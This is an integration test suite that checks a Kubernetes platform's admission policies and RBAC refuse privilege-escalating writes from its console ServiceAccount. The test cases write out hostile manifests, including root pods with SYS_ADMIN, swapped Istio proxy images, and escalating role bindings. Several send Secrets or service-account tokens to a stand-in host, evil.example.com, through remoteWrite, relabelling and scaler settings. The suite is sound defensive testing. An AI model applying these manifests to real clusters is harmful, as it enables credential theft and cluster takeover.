// What the console's ServiceAccount may not put into a platform namespace, on a real API server:
// the gaps the SRE and attacker reviews of issue 7 found in console-rbac.yaml and
// console-admission.yaml (their finding numbers in each title), each a write that must be refused.
// Everything is a server-side dry-run except the first block, which applies one Deployment into a
// freshly granted, throw-away environment and deletes it again.
import { AppsV1Api, CoreV1Api, type KubernetesObject, KubernetesObjectApi, PatchStrategy } from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { starterSpec } from "@/lib/core/environments/starter-specs";
import { toPlain } from "@/manifests/kube-object";
import { renderRateLimits } from "@/manifests/mesh/rate-limits";
import { renderPlatform } from "@/manifests/render-platform";
import { adminKubeConfig, applyObjects, consoleDryRunAnswer, consoleEnvironmentObjects, consoleKubeConfig, deleteObjects, uniqueName, waitFor } from "./test-support";

const consoleKc = consoleKubeConfig();
const objects = KubernetesObjectApi.makeApiClient(consoleKc);
const platformNamespace = (process.env.PP_PLATFORM_NAMESPACES ?? "personapass-dev personapass-staging personapass-prod").split(/\s+/)[0]!;
const monitoring = `${platformNamespace}-monitoring`;
const restricted = { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] }, runAsNonRoot: true, runAsUser: 10001, seccompProfile: { type: "RuntimeDefault" } };

const answerTo = consoleDryRunAnswer;
const refusedByPolicy = (answer: string) => expect(answer).toMatch(/^403 .*ValidatingAdmissionPolicy/);

const deployment = (name: string, pod: Record<string, unknown> = {}, container: Record<string, unknown> = {}, annotations: Record<string, string> = {}) => ({
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name, namespace: platformNamespace },
  spec: {
    selector: { matchLabels: { app: name } },
    template: {
      metadata: { labels: { app: name }, annotations: { "sidecar.istio.io/inject": "true", ...annotations } },
      spec: { containers: [{ name: "app", image: "registry.personapass.io/personapass/identity-service:1.8.2", securityContext: restricted, ...container }], ...pod },
    },
  },
});

// SRE F1, attacker M2: Pod Security labels came with the console's first deploy, so until then its
// namespaces ran any pod, and the admission policies leave capabilities, root, seccomp and host
// ports to Pod Security.
describe("a freshly granted environment, before the console applies its Namespace objects (F1, M2)", () => {
  const admin = adminKubeConfig();
  const environment = uniqueName("granted");
  const namespace = `personapass-${environment}`;
  const grant = consoleEnvironmentObjects(environment, namespace);
  beforeAll(() => applyObjects(admin, grant));
  afterAll(() => deleteObjects(admin, grant));

  it("already enforces the restricted Pod Security Standard at the latest version on all three namespaces", async () => {
    const core = admin.makeApiClient(CoreV1Api);
    for (const name of [namespace, `${namespace}-monitoring`, `${namespace}-tracing`]) {
      const labels = (await core.readNamespace({ name })).metadata?.labels ?? {};
      expect({ name, enforce: labels["pod-security.kubernetes.io/enforce"], version: labels["pod-security.kubernetes.io/enforce-version"] }).toEqual({ name, enforce: "restricted", version: "latest" });
    }
  });

  it("gets no pod running as root with SYS_ADMIN, seccomp Unconfined and a host port", async () => {
    const name = uniqueName("root");
    const body = {
      apiVersion: "apps/v1",
      kind: "Deployment",
      metadata: { name, namespace },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: name } },
        template: {
          metadata: { labels: { app: name } },
          spec: {
            containers: [
              {
                name: "c",
                // An allowed image: the policies check where an image comes from, not what it runs.
                image: "docker.io/library/redis:7.4.1",
                command: ["sh", "-c", "sleep 3600"],
                ports: [{ containerPort: 2222, hostPort: 2222 }],
                securityContext: { runAsUser: 0, allowPrivilegeEscalation: true, capabilities: { add: ["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"] }, seccompProfile: { type: "Unconfined" } },
              },
            ],
          },
        },
      },
    };
    const admitted = await answerTo(body).then(async (answer) => {
      if (answer !== "admitted") return answer;
      await objects.patch(body as KubernetesObject, undefined, undefined, "personapass-console", true, PatchStrategy.ServerSideApply);
      return "applied";
    });
    try {
      if (admitted !== "applied") return; // refused at the Deployment
      // Admitted: then the ReplicaSet controller's pod must be refused by Pod Security.
      const core = admin.makeApiClient(CoreV1Api);
      const outcome = await waitFor(`a pod or a FailedCreate for ${name}`, async () => {
        const pods = await core.listNamespacedPod({ namespace, labelSelector: `app=${name}` });
        if (pods.items.length > 0) return `pod ${pods.items[0]!.metadata?.name} created`;
        const events = await core.listNamespacedEvent({ namespace });
        const failed = events.items.find((event) => event.reason === "FailedCreate" && event.involvedObject?.name?.startsWith(name));
        return failed ? "refused" : undefined;
      }, 60_000);
      expect(outcome).toBe("refused");
    } finally {
      await admin.makeApiClient(AppsV1Api).deleteNamespacedDeployment({ name, namespace }).catch(() => undefined);
    }
  });

  it("refuses the console's pods where an administrator lifted the namespace's enforcement", async () => {
    await applyObjects(admin, [{ apiVersion: "v1", kind: "Namespace", metadata: { name: `${namespace}-tracing`, labels: { "pod-security.kubernetes.io/enforce": "baseline" } } }] as KubernetesObject[], "an-administrator");
    const answer = await answerTo({ ...deployment(uniqueName("lifted")), metadata: { name: uniqueName("lifted"), namespace: `${namespace}-tracing` } });
    refusedByPolicy(answer);
    expect(answer).toContain("only in namespaces that enforce the restricted Pod Security Standard");
  });
});

describe("pod templates (attacker M2)", () => {
  it("refuses root, SYS_ADMIN, unconfined seccomp and a host port even where Pod Security would only judge the pods", async () => {
    const container = { ports: [{ containerPort: 22, hostPort: 22 }], securityContext: { runAsUser: 0, allowPrivilegeEscalation: true, capabilities: { add: ["SYS_ADMIN"] }, seccompProfile: { type: "Unconfined" } } };
    const answer = await answerTo(deployment(uniqueName("caps"), {}, container));
    refusedByPolicy(answer);
    expect(answer).toContain("must meet the restricted Pod Security Standard");
  });

  it("admits the restricted template the platform renders", async () => {
    expect(await answerTo(deployment(uniqueName("ok")))).toBe("admitted");
  });
});

// SRE F4: the policies see the template, never the injected pod (the ReplicaSet controller's
// request), so these annotations would steer Envoy's container past every check.
describe("Istio injection settings on a pod template (F4)", () => {
  it.each([
    ["sidecar.istio.io/proxyImage (an image from anywhere)", { "sidecar.istio.io/proxyImage": "evil.example.com/proxyv2:1" }],
    ["sidecar.istio.io/userVolume (an unrelated Secret mounted into Envoy)", { "sidecar.istio.io/userVolume": '[{"name":"k","secret":{"secretName":"unrelated"}}]', "sidecar.istio.io/userVolumeMount": '[{"name":"k","mountPath":"/k"}]' }],
    ["inject.istio.io/templates (a custom injection template)", { "inject.istio.io/templates": "sidecar,custom" }],
    ["proxy.istio.io/config (the proxy's own settings)", { "proxy.istio.io/config": "{}" }],
  ])("refuses %s", async (_what, annotations) => {
    refusedByPolicy(await answerTo(deployment(uniqueName("istio"), {}, {}, annotations)));
  });

  it("refuses another Istio revision's injector (label istio.io/rev)", async () => {
    const body = deployment(uniqueName("rev"));
    (body.spec.template.metadata.labels as Record<string, string>)["istio.io/rev"] = "canary";
    refusedByPolicy(await answerTo(body));
  });
});

// SRE F3, attacker M3: the Prometheus Operator and KEDA make pods, read Secrets and send credentials
// from many more fields than the policy once looked at.
describe("operated resources (F3, M3)", () => {
  const prometheus = (name: string, spec: object) => ({ apiVersion: "monitoring.coreos.com/v1", kind: "Prometheus", metadata: { name, namespace: monitoring }, spec });
  const alertmanager = (name: string, spec: object) => ({ apiVersion: "monitoring.coreos.com/v1", kind: "Alertmanager", metadata: { name, namespace: monitoring }, spec });
  const serviceMonitor = (name: string, spec: object) => ({ apiVersion: "monitoring.coreos.com/v1", kind: "ServiceMonitor", metadata: { name, namespace: monitoring }, spec });
  const triggerAuthentication = (name: string, spec: object) => ({ apiVersion: "keda.sh/v1alpha1", kind: "TriggerAuthentication", metadata: { name, namespace: platformNamespace }, spec });
  const kubelet = { selector: { matchLabels: { "app.kubernetes.io/name": "kubelet" } }, namespaceSelector: { matchNames: ["kube-system"] } };
  const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  it.each([
    ["Prometheus mounting an unrelated Secret through spec.volumes", prometheus("vol", { volumes: [{ name: "s", secret: { secretName: "unrelated" } }], volumeMounts: [{ name: "s", mountPath: "/s" }] })],
    ["Prometheus with a CSI volume (node-level driver, Secrets of its own)", prometheus("csi", { volumes: [{ name: "c", csi: { driver: "secrets-store.csi.k8s.io", volumeAttributes: { secretProviderClass: "x" } } }] })],
    ["Prometheus whose Thanos sidecar runs any image", prometheus("thanos", { thanos: { image: "evil.example.com/x:1" } })],
    ["Prometheus whose image is built from spec.baseImage", prometheus("base", { baseImage: "evil.example.com/prometheus", version: "v2.55.1" })],
    ["Prometheus with spec.image", prometheus("image", { image: "evil.example.com/prometheus:1" })],
    ["Prometheus reading an unrelated Secret as additionalScrapeConfigs", prometheus("asc", { additionalScrapeConfigs: { name: "unrelated", key: "k" } })],
    ["Prometheus reading an unrelated Secret as additionalAlertManagerConfigs", prometheus("aamc", { additionalAlertManagerConfigs: { name: "unrelated", key: "k" } })],
    ["Prometheus reading an unrelated Secret as additionalAlertRelabelConfigs", prometheus("aarc", { additionalAlertRelabelConfigs: { name: "unrelated", key: "k" } })],
    ["Prometheus sending an unrelated Secret to a remote write endpoint", prometheus("rw", { remoteWrite: [{ url: "https://evil.example.com", basicAuth: { username: { name: "unrelated", key: "u" }, password: { name: "unrelated", key: "p" } } }] })],
    ["Prometheus serving with an unrelated Secret's TLS key", prometheus("web", { web: { tlsConfig: { keySecret: { name: "unrelated", key: "k" }, cert: { secret: { name: "unrelated", key: "c" } } } } })],
    ["Prometheus pulling with an unrelated imagePullSecret", prometheus("ips", { imagePullSecrets: [{ name: "unrelated" }] })],
    ["Prometheus container reading an unrelated Secret through env", prometheus("env", { containers: [{ name: "prometheus", env: [{ name: "X", valueFrom: { secretKeyRef: { name: "unrelated", key: "k" } } }] }] })],
    ["Prometheus with a privileged container", prometheus("priv", { containers: [{ name: "prometheus", securityContext: { privileged: true } }] })],
    ["Prometheus running as another ServiceAccount", prometheus("sa", { serviceAccountName: "default" })],
    ["Prometheus sending credentials to an Alertmanager", prometheus("am", { alerting: { alertmanagers: [{ namespace: monitoring, name: "x", port: "web", bearerTokenFile: token }] } })],
    ["Prometheus binding an existing volume by name", prometheus("pv", { storage: { volumeClaimTemplate: { spec: { volumeName: "someone-elses-pv", resources: { requests: { storage: "1Gi" } } } } } })],
    ["Prometheus whose pods steer Istio's injector", prometheus("istio", { podMetadata: { annotations: { "sidecar.istio.io/proxyImage": "evil.example.com/proxyv2:1" } } })],
    ["Alertmanager with an init container", alertmanager("init", { initContainers: [{ name: "x", image: "evil.example.com/x:1" }] })],
    ["Alertmanager mounting an unrelated Secret", alertmanager("secrets", { secrets: ["unrelated"] })],
    ["ServiceMonitor sending an unrelated Secret as a bearer token to any target", serviceMonitor("bearer", { selector: {}, endpoints: [{ port: "web", bearerTokenSecret: { name: "unrelated", key: "token" } }] })],
    ["ServiceMonitor sending Prometheus' own token to any target", serviceMonitor("file", { selector: {}, endpoints: [{ port: "web", bearerTokenFile: token }] })],
    ["ServiceMonitor sending Prometheus' token to the kubelets' Service, relabelled elsewhere", serviceMonitor("moved", { ...kubelet, endpoints: [{ port: "https-metrics", bearerTokenFile: token, relabelings: [{ targetLabel: "__address__", replacement: "evil.example.com:443" }] }] })],
    ["ServiceMonitor with an unrelated Secret's TLS client key", serviceMonitor("tls", { selector: {}, endpoints: [{ port: "web", tlsConfig: { keySecret: { name: "unrelated", key: "k" } } }] })],
    ["PodMonitor with basic auth from an unrelated Secret", { apiVersion: "monitoring.coreos.com/v1", kind: "PodMonitor", metadata: { name: "basic", namespace: monitoring }, spec: { selector: {}, podMetricsEndpoints: [{ port: "web", basicAuth: { username: { name: "unrelated", key: "u" } } }] } }],
    ["TriggerAuthentication minting a ServiceAccount token for a scaler", triggerAuthentication("bsat", { boundServiceAccountToken: [{ parameter: "bearerToken", serviceAccountName: "default" }] })],
    ["TriggerAuthentication assuming a cloud role through KEDA's identity", triggerAuthentication("podid", { podIdentity: { provider: "aws", roleArn: "arn:aws:iam::123456789012:role/admin" } })],
    ["TriggerAuthentication reading a container's environment", triggerAuthentication("env", { env: [{ parameter: "password", name: "REDIS_PASSWORD", containerName: "redis" }] })],
    ["TriggerAuthentication handing an unrelated Secret to a scaler", triggerAuthentication("secret", { secretTargetRef: [{ parameter: "password", name: "unrelated", key: "k" }] })],
    ["ScaledObject using a ClusterTriggerAuthentication (another team's credentials)", { apiVersion: "keda.sh/v1alpha1", kind: "ScaledObject", metadata: { name: "cta", namespace: platformNamespace }, spec: { scaleTargetRef: { name: "x" }, triggers: [{ type: "prometheus", metadata: { serverAddress: "https://evil.example.com", query: "up", threshold: "1" }, authenticationRef: { kind: "ClusterTriggerAuthentication", name: "platform-team-credentials" } }] } }],
  ])("refuses %s", async (_what, body) => {
    refusedByPolicy(await answerTo(body));
  });

  it("admits the platform's kubelet monitor, which sends Prometheus' token to the kubelets only", async () => {
    const body = serviceMonitor("kubelet-cadvisor", { ...kubelet, endpoints: [{ port: "https-metrics", scheme: "https", path: "/metrics/cadvisor", bearerTokenFile: token, tlsConfig: { caFile: "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt" } }] });
    expect(await answerTo(body)).toBe("admitted");
  });
});

// SRE F2, attacker H3/M4: bindings are pinned to their role and subject; the console writes no
// cluster-scoped RBAC (RBAC or a policy refuses it: either way a 403).
describe("RBAC the console may write (F2, F5, H3, M4)", () => {
  const binding = (name: string, roleRef: object, subjects: object[], namespace = platformNamespace) => ({
    apiVersion: "rbac.authorization.k8s.io/v1",
    kind: "RoleBinding",
    metadata: { name, namespace },
    roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
    subjects,
  });
  const console = { kind: "ServiceAccount", name: "personapass-console", namespace: "personapass-system" };
  it.each([
    ["its own platform ClusterRole to a ServiceAccount it can run pods as", binding("personapass-deployer", { kind: "ClusterRole", name: "personapass-console-platform" }, [{ kind: "ServiceAccount", name: "default", namespace: platformNamespace }])],
    ["its own platform ClusterRole to a ServiceAccount of another namespace", binding("personapass-deployer", { kind: "ClusterRole", name: "personapass-console-platform" }, [{ kind: "ServiceAccount", name: "attacker", namespace: "default" }])],
    ["the deployer Role to the console and another ServiceAccount", binding("personapass-deployer", { kind: "Role", name: "personapass-deployer" }, [console, { kind: "ServiceAccount", name: "default", namespace: platformNamespace }])],
    ["the deployer Role under the discovery binding's name", binding("prometheus-discovery", { kind: "Role", name: "personapass-deployer" }, [{ kind: "ServiceAccount", name: "prometheus", namespace: monitoring }])],
    ["the discovery Role to another environment's Prometheus", binding("prometheus-discovery", { kind: "Role", name: "prometheus-discovery" }, [{ kind: "ServiceAccount", name: "prometheus", namespace: "personapass-prod-monitoring" }])],
    ["the discovery Role to a ServiceAccount other than Prometheus", binding("prometheus-discovery", { kind: "Role", name: "prometheus-discovery" }, [{ kind: "ServiceAccount", name: "default", namespace: monitoring }])],
  ])("refuses binding %s", async (_what, body) => {
    refusedByPolicy(await answerTo(body));
  });

  it("admits the platform's own bindings, from each of the environment's namespaces", async () => {
    expect(await answerTo(binding("personapass-deployer", { kind: "Role", name: "personapass-deployer" }, [console]))).toBe("admitted");
    for (const namespace of [platformNamespace, monitoring, `${platformNamespace}-tracing`]) {
      expect(await answerTo(binding("prometheus-discovery", { kind: "Role", name: "prometheus-discovery" }, [{ kind: "ServiceAccount", name: "prometheus", namespace: monitoring }], namespace))).toBe("admitted");
    }
  });

  it("refuses a discovery Role that writes", async () => {
    const role = { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "prometheus-discovery", namespace: platformNamespace }, rules: [{ apiGroups: [""], resources: ["configmaps"], verbs: ["get", "patch"] }] };
    refusedByPolicy(await answerTo(role));
  });

  it.each([
    ["a ClusterRole labelled for aggregation into view", { apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRole", metadata: { name: "personapass-dev-prometheus-nodes", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } }, rules: [{ apiGroups: [""], resources: ["namespaces"], resourceNames: [platformNamespace], verbs: ["patch"] }] }],
    ["the per-environment ClusterRoleBinding to another ServiceAccount", { apiVersion: "rbac.authorization.k8s.io/v1", kind: "ClusterRoleBinding", metadata: { name: "personapass-dev-prometheus-nodes" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "personapass-dev-prometheus-nodes" }, subjects: [{ kind: "ServiceAccount", name: "default", namespace: platformNamespace }] }],
    ["a discovery Role in kube-system", { apiVersion: "rbac.authorization.k8s.io/v1", kind: "Role", metadata: { name: "personapass-dev-prometheus-discovery", namespace: "kube-system" }, rules: [] }],
  ])("refuses %s", async (_what, body) => {
    expect(await answerTo(body)).toMatch(/^403 /);
  });
});

describe("Secrets (F2, H3)", () => {
  it("refuses turning the Alertmanager Secret into a ServiceAccount token", async () => {
    const secret = { apiVersion: "v1", kind: "Secret", type: "kubernetes.io/service-account-token", metadata: { name: "alertmanager-personapass", namespace: monitoring, annotations: { "kubernetes.io/service-account.name": "default" } } };
    refusedByPolicy(await answerTo(secret));
  });

  it("refuses a ServiceAccount annotation on an Opaque Secret", async () => {
    const secret = { apiVersion: "v1", kind: "Secret", type: "Opaque", metadata: { name: "alertmanager-personapass", namespace: monitoring, annotations: { "kubernetes.io/service-account.name": "default" } } };
    refusedByPolicy(await answerTo(secret));
  });

  it("may not read the Secret it writes", async () => {
    const status = await consoleKc.makeApiClient(CoreV1Api).readNamespacedSecret({ name: "alertmanager-personapass", namespace: monitoring }).then(() => 200, (error: { code?: number }) => error.code);
    expect(status).toBe(403);
  });
});

describe("Services and PersistentVolumeClaims (attacker M5, SRE F13)", () => {
  const service = (spec: object) => ({ apiVersion: "v1", kind: "Service", metadata: { name: uniqueName("svc"), namespace: platformNamespace }, spec: { ports: [{ port: 443 }], ...spec } });
  const claim = (spec: object) => ({ apiVersion: "v1", kind: "PersistentVolumeClaim", metadata: { name: uniqueName("pvc"), namespace: platformNamespace }, spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } }, ...spec } });
  it.each([
    ["a Service with externalIPs (CVE-2020-8554: intercepts traffic to any address)", service({ externalIPs: ["10.96.0.1"] })],
    ["a NodePort Service", service({ type: "NodePort" })],
    ["a LoadBalancer Service", service({ type: "LoadBalancer" })],
    ["a claim that picks its PersistentVolume by name", claim({ volumeName: "someone-elses-pv", storageClassName: "" })],
    ["a claim that selects existing PersistentVolumes by label", claim({ selector: { matchLabels: { team: "payments" } }, storageClassName: "" })],
    ["a claim copying another claim's data", claim({ dataSource: { kind: "PersistentVolumeClaim", name: "identity-service-data" } })],
  ])("refuses %s", async (_what, body) => {
    refusedByPolicy(await answerTo(body));
  });

  it("admits the ClusterIP Services and fresh claims the platform renders", async () => {
    expect(await answerTo(service({}))).toBe("admitted");
    expect(await answerTo(claim({}))).toBe("admitted");
  });
});

// SRE F1b: `enforce-version: v1.0` keeps the label and drops the later checks (seccomp,
// allowPrivilegeEscalation, capabilities drop ALL).
describe("the Pod Security version of a platform namespace (F1b)", () => {
  it("may not be pinned below latest by the console", async () => {
    const namespace = { apiVersion: "v1", kind: "Namespace", metadata: { name: platformNamespace, labels: { "pod-security.kubernetes.io/enforce": "restricted", "pod-security.kubernetes.io/enforce-version": "v1.0" } } };
    refusedByPolicy(await answerTo(namespace));
  });

  it("may not choose another Istio revision for the namespace", async () => {
    const namespace = { apiVersion: "v1", kind: "Namespace", metadata: { name: platformNamespace, labels: { "pod-security.kubernetes.io/enforce": "restricted", "istio.io/rev": "canary" } } };
    refusedByPolicy(await answerTo(namespace));
  });
});

// An EnvoyFilter patches any Envoy configuration of the pods it selects: the console may write only
// the local rate limits the platform renders (manifests/mesh/rate-limits.ts).
describe("EnvoyFilters", () => {
  const spec = starterSpec(platformNamespace.replace(/^personapass-/, ""), "staging");
  const rendered = () => {
    const filter = toPlain(renderRateLimits({ ...spec, namespace: platformNamespace })[0]!) as Record<string, any>;
    return filter;
  };
  const patchOf = (filter: Record<string, any>) => filter.spec.configPatches[0];

  it("admits the local rate limit the platform renders", async () => {
    expect(await answerTo(rendered())).toBe("admitted");
  });

  it.each([
    [
      "a Lua filter in the same place",
      (f: Record<string, any>) => (patchOf(f).patch.value = { name: "envoy.filters.http.lua", typed_config: { "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua", default_source_code: { inline_string: "function envoy_on_request(h) end" } } }),
    ],
    [
      "a Lua filter named as the local rate limit",
      (f: Record<string, any>) => (patchOf(f).patch.value.typed_config = { "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua", default_source_code: { inline_string: "function envoy_on_request(h) end" } }),
    ],
    [
      "a TypedStruct that could name any type",
      (f: Record<string, any>) => (patchOf(f).patch.value.typed_config = { "@type": "type.googleapis.com/xds.type.v3.TypedStruct", type_url: "type.googleapis.com/envoy.extensions.filters.http.ext_authz.v3.ExtAuthz", value: {} }),
    ],
    ["a rate limit over every pod of the namespace", (f: Record<string, any>) => delete f.spec.workloadSelector],
    ["a second patch adding a cluster", (f: Record<string, any>) => f.spec.configPatches.push({ applyTo: "CLUSTER", patch: { operation: "ADD", value: { name: "elsewhere" } } })],
    ["a patch of the pods' outbound side", (f: Record<string, any>) => (patchOf(f).match.context = "SIDECAR_OUTBOUND")],
    ["a filter replacing the router", (f: Record<string, any>) => (patchOf(f).patch.operation = "REPLACE")],
  ])("refuses %s", async (_what, breakIt) => {
    const filter = rendered();
    breakIt(filter);
    refusedByPolicy(await answerTo(filter));
  });
});

// Issue 9: the spec may lower a platform namespace to baseline with a reason; the console may write
// exactly what the render makes of it (enforce baseline, audit and warn restricted, the reason
// annotated), and never privileged.
describe("the Pod Security level of a platform namespace", () => {
  const reason = "Elasticsearch init container raises vm.max_map_count";
  const namespace = (labels: Record<string, string>, annotations: Record<string, string> = {}) => ({
    apiVersion: "v1",
    kind: "Namespace",
    metadata: {
      name: platformNamespace,
      annotations,
      labels: {
        "app.kubernetes.io/part-of": "personapass",
        "pod-security.kubernetes.io/enforce": "restricted",
        "pod-security.kubernetes.io/enforce-version": "latest",
        "pod-security.kubernetes.io/audit": "restricted",
        "pod-security.kubernetes.io/warn": "restricted",
        ...labels,
      },
    },
  });

  it("may be baseline as the platform renders it", async () => {
    expect(await answerTo(namespace({ "pod-security.kubernetes.io/enforce": "baseline" }, { "personapass.dev/pod-security-reason": reason }))).toBe("admitted");
  });

  it.each([
    ["baseline without a reason", { "pod-security.kubernetes.io/enforce": "baseline" }, {}],
    ["baseline with a reason of one word", { "pod-security.kubernetes.io/enforce": "baseline" }, { "personapass.dev/pod-security-reason": "elasticsearch-needs-root" }],
    ["baseline that no longer warns at restricted", { "pod-security.kubernetes.io/enforce": "baseline", "pod-security.kubernetes.io/warn": "baseline" }, { "personapass.dev/pod-security-reason": reason }],
    ["privileged, even with a reason", { "pod-security.kubernetes.io/enforce": "privileged" }, { "personapass.dev/pod-security-reason": reason }],
  ])("may not be %s", async (_, labels, annotations) => {
    refusedByPolicy(await answerTo(namespace(labels, annotations)));
  });
});

// Review 9b (attack2) finding 3: the console's right on VerticalPodAutoscalers had no admission bound,
// so a compromised console could make the VPA updater evict and resize every pod of the environment,
// the injected istio-proxy containers included. It may write them only in recommendation mode, as
// the platform renders them (manifests/vertical-pod-autoscalers.ts).
describe("VerticalPodAutoscalers", () => {
  const spec = starterSpec(platformNamespace.replace(/^personapass-/, ""), "production");
  const renderedVpas = () =>
    renderPlatform({ ...spec, namespace: platformNamespace })
      .map((object) => toPlain(object) as Record<string, any>)
      .filter((object) => object.kind === "VerticalPodAutoscaler");
  const vpa = (spec: Record<string, unknown>) => ({
    apiVersion: "autoscaling.k8s.io/v1",
    kind: "VerticalPodAutoscaler",
    metadata: { name: "wallet-api", namespace: platformNamespace },
    spec: { targetRef: { apiVersion: "apps/v1", kind: "Deployment", name: "wallet-api" }, updatePolicy: { updateMode: "Off" }, ...spec },
  });

  it("admits every VPA the platform renders (Deployments, Prometheus, Alertmanager)", async () => {
    const vpas = renderedVpas();
    expect(new Set(vpas.map((v) => v.spec.targetRef.kind))).toEqual(new Set(["Deployment", "Prometheus", "Alertmanager"]));
    for (const object of vpas) expect({ vpa: object.metadata.name, answer: await answerTo(object) }).toEqual({ vpa: object.metadata.name, answer: "admitted" });
  });

  it.each(["Recreate", "Auto", "InPlaceOrRecreate", "Initial"])("refuses updateMode %s", async (updateMode) => {
    refusedByPolicy(
      await answerTo(
        vpa({
          updatePolicy: { updateMode, minReplicas: 1 },
          resourcePolicy: { containerPolicies: [{ containerName: "istio-proxy", mode: "Auto", controlledValues: "RequestsAndLimits", maxAllowed: { memory: "8Mi", cpu: "1m" } }] },
        }),
      ),
    );
  });

  it.each([
    ["no updatePolicy (the VPA's default mode acts on pods)", { updatePolicy: undefined }],
    ["a StatefulSet target", { targetRef: { apiVersion: "apps/v1", kind: "StatefulSet", name: "wallet-api" } }],
    ["a DaemonSet target", { targetRef: { apiVersion: "apps/v1", kind: "DaemonSet", name: "wallet-api" } }],
    ["maxAllowed", { resourcePolicy: { containerPolicies: [{ containerName: "*", maxAllowed: { memory: "8Mi" } }] } }],
    ["minAllowed", { resourcePolicy: { containerPolicies: [{ containerName: "*", minAllowed: { cpu: "4" } }] } }],
    ["controlledValues", { resourcePolicy: { containerPolicies: [{ containerName: "*", controlledValues: "RequestsOnly" }] } }],
    ["istio-proxy in mode Auto", { resourcePolicy: { containerPolicies: [{ containerName: "istio-proxy", mode: "Auto" }] } }],
    ["another recommender", { recommenders: [{ name: "elsewhere" }] }],
  ])("refuses %s", async (_, change) => {
    refusedByPolicy(await answerTo(vpa(change)));
  });
});
